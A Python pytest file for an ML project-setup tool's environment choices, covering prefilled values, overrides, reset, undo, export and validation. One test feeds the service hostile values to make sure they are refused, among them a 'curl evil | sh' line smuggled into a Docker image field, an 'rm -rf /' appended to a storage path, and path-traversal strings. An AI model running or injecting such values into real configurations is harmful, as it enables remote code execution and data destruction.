"""Environment choices: prefilled from the hearing, the user's value wins, reset, validation, content checks."""

from __future__ import annotations

from pathlib import Path

import pytest
from pydantic import ValidationError

from app.core.errors import ValidationFailed
from app.core.projects import ProjectService
from app.environment.model import EnvironmentForm, Layout
from app.environment.service import EnvironmentService, form_of
from app.hearing.answers import AnswerService
from app.projects import transfer


@pytest.fixture
def fresh(workspace):
    return ProjectService(workspace.db).create("Retail Demand Forecast", lang="en")


def test_the_demo_takes_its_choices_from_the_hearing(workspace, demo) -> None:
    choices = EnvironmentService(workspace).choices(demo.id, "ja")
    assert (choices.value("repo_host"), choices.resolved["repo_host"].source) == ("github", "hearing")
    assert choices.value("gpu") == "yes"
    assert choices.value("docker_base_image").startswith("pytorch/pytorch:")  # PyTorch + GPU in the hearing
    assert choices.value("training_resources") == "managed_jobs"  # SageMaker among the external services
    assert choices.value("storage") == "s3"  # AWS
    assert choices.value("languages") == "Python" and choices.value("frameworks") == "PyTorch"
    assert choices.value("repo_name") == "similar-image-search"  # set by the demo
    assert [d.dataset_id for d in choices.datasets] == ["product_images", "product_master", "browse_logs"]
    assert choices.datasets[0].path == "s3://sample-retail-similar-image-poc/raw/product_images/"
    assert choices.datasets[2].personal_info


def test_untouched_choices_follow_the_hearing_and_earlier_choices(workspace, fresh) -> None:
    service = EnvironmentService(workspace)
    answers = AnswerService(workspace.db, workspace.library)
    before = service.choices(fresh.id, "en")
    assert before.value("repo_name") == "retail-demand-forecast"  # the project's name, file-safe
    assert before.resolved["repo_host"].source == "default"
    answers.update(fresh.id, "hearing.prereq.source_repo", value="gitlab")
    answers.update(fresh.id, "hearing.prereq.env_platform", value=["gcp"])
    after = service.choices(fresh.id, "en")
    assert after.value("repo_host") == "gitlab" and after.resolved["repo_host"].source == "hearing"
    assert after.value("ci_system") == "gitlab_ci"  # follows the repository host
    assert after.value("storage") == "gcs"
    assert after.value("storage_root") == "gs://retail-demand-forecast-data"
    assert after.location("raw").path == "gs://retail-demand-forecast-data/raw/"


def test_option_ids_match_exactly_not_as_substrings(workspace, fresh) -> None:
    choices = EnvironmentService(workspace).choices(fresh.id, "en")
    assert choices.value("experiment_tracking") == "sheet_then_mlflow"
    assert choices.value("ci_record") == "artifacts"  # "mlflow" is only part of the id above


def test_a_users_value_wins_and_reset_brings_the_hearing_back(workspace, demo) -> None:
    service = EnvironmentService(workspace)
    change = service.set_value(demo.id, "repo_host", "gitlab")
    assert change.changed and change.kind == "environment"
    assert change.before.get("values", {}).get("repo_host") is None
    assert change.after["values"]["repo_host"] == "gitlab"
    choices = service.choices(demo.id, "ja")
    assert choices.resolved["repo_host"].source == "set" and choices.value("ci_system") == "gitlab_ci"
    service.reset(demo.id, "repo_host")
    assert service.choices(demo.id, "ja").value("repo_host") == "github"
    service.restore(demo.id, change.kind, change.after)  # what undo/redo do
    assert service.choices(demo.id, "ja").value("repo_host") == "gitlab"


def test_setting_the_same_value_changes_nothing(workspace, demo) -> None:
    service = EnvironmentService(workspace)
    assert not service.set_value(demo.id, "repo_name", "similar-image-search").changed


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("repo_host", "sourceforge"),
        ("repo_name", "../evil"),
        ("repo_name", "Has Spaces"),
        ("docker_base_image", "python:3.11\nRUN curl evil | sh"),
        ("storage_root", "s3://bucket; rm -rf /"),
        ("deletion_days", "soon"),
        ("ci_triggers", ["push", "hourly"]),
    ],
)
def test_values_that_do_not_fit_are_refused(workspace, demo, field, value) -> None:
    before = EnvironmentService(workspace).stored(demo.id)
    with pytest.raises(ValidationFailed):
        EnvironmentService(workspace).set_value(demo.id, field, value)
    assert EnvironmentService(workspace).stored(demo.id) == before


def test_locations_and_datasets_are_edited_cell_by_cell(workspace, demo) -> None:
    service = EnvironmentService(workspace)
    service.set_location(demo.id, "raw", "access", "MLOps only")
    key = service.choices(demo.id, "en").datasets[0].key
    service.set_dataset(demo.id, key, "dataset_id", "images_v2")
    choices = service.choices(demo.id, "en")
    assert choices.location("raw").access == "MLOps only" and "access" in choices.location("raw").edited
    assert choices.datasets[0].dataset_id == "images_v2"
    with pytest.raises(ValidationFailed):
        service.set_dataset(demo.id, key, "dataset_id", "../../etc")
    service.set_location(demo.id, "raw", "access", "")  # empty: back to the default
    assert service.choices(demo.id, "en").location("raw").access.startswith("MLOps")


def test_a_renamed_data_source_keeps_its_dataset_cells_back_and_forth_and_through_undo(workspace, demo) -> None:
    from app.core.operations import run, undo_op
    from app.hearing.operations import update_answer

    service = EnvironmentService(workspace)
    answers = AnswerService(workspace.db, workspace.library)
    item = "hearing.prereq.data_sources"
    first = service.choices(demo.id, "ja").datasets[0].key
    service.set_dataset(demo.id, first, "dataset_id", "images_v2")
    service.set_dataset(demo.id, first, "owner", "田中")

    def kept(key: str) -> tuple[str, str]:
        dataset = next(d for d in service.choices(demo.id, "ja").datasets if d.key == key)
        return dataset.dataset_id, dataset.owner

    rows = answers.answer(demo.id, item).value
    renamed = [dict(rows[0], name="商品画像(全件)"), *rows[1:]]
    change = run(workspace, update_answer(demo.id, item, value=renamed))
    assert kept("商品画像(全件)") == ("images_v2", "田中")
    run(workspace, undo_op(change))  # the rename undone: the cells are back under the old name
    assert kept(first) == ("images_v2", "田中")
    answers.update(demo.id, item, value=renamed)
    answers.update(demo.id, item, value=rows)  # and back by hand
    assert kept(first) == ("images_v2", "田中")
    # renamed while another row is added before it (one write, as a sheet import does): found by its cells
    answers.update(demo.id, item, value=[{"name": "問い合わせログ"}, *renamed])
    assert kept("商品画像(全件)") == ("images_v2", "田中")


def test_choices_travel_in_the_project_file(workspace, demo, tmp_path: Path) -> None:
    service = EnvironmentService(workspace)
    service.set_value(demo.id, "branch_model", "git_flow")
    out = transfer.export_file(workspace.db, demo.id, tmp_path / "demo.json")
    copy_id = transfer.import_file(workspace.db, out)
    copied = service.choices(copy_id, "ja")
    assert copied.value("branch_model") == "git_flow"
    assert [d.dataset_id for d in copied.datasets] == ["product_images", "product_master", "browse_logs"]


def test_the_shipped_form_has_every_choice_the_issue_names(workspace) -> None:
    form = form_of(workspace)
    for field_id in ("repo_host", "branch_model", "directory_template", "experiment_tracking", "storage",
                     "access_control", "dataset_versioning", "ci_system", "docker_base_image"):
        assert form.field(field_id) is not None, field_id
    assert [k.id for k in form.data_kinds] == ["raw", "processed", "models", "metadata"]
    for field in form.fields:
        for option in field.options:
            assert option.label.ja and option.label.en, (field.id, option.id)


def test_a_form_that_refers_to_a_later_field_is_refused(workspace) -> None:
    raw = form_of(workspace).model_dump(by_alias=True)
    first = raw["fields"][0]
    first["prefill"] = [{"when": {"field:ci_system": "github_actions"}, "value": "github"}]
    with pytest.raises(ValidationError, match="not an earlier field"):
        EnvironmentForm.model_validate(raw)


def test_a_layout_without_a_folder_for_the_pipeline_is_refused() -> None:
    with pytest.raises(ValidationError, match="lacks folders"):
        Layout.model_validate({"id": "tiny", "entries": [{"path": "src", "role": "code", "about": {"en": "code"}}]})
    with pytest.raises(ValidationError, match="inside the project"):
        Layout.model_validate({"id": "bad", "entries": [{"path": "a/../../b", "about": {"en": "x"}}]})
